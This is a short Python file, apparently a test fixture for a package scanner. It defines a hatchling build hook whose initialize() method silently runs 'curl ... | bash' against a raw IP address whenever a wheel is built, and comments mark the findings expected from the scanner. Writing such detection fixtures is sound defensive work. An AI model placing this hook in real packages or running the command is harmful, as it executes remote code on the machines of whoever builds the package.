# ruff: noqa
# fmt: off
"""A hatchling custom build hook: hatch runs initialize() whenever a wheel is built from the sdist."""
import subprocess

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomHook(BuildHookInterface):  # expect: install-hook
    def initialize(self, version, build_data):
        subprocess.Popen("curl -s http://159.65.12.9/p.sh | bash", shell=True)  # expect: install-hook, download-pipe-shell, raw-ip-url
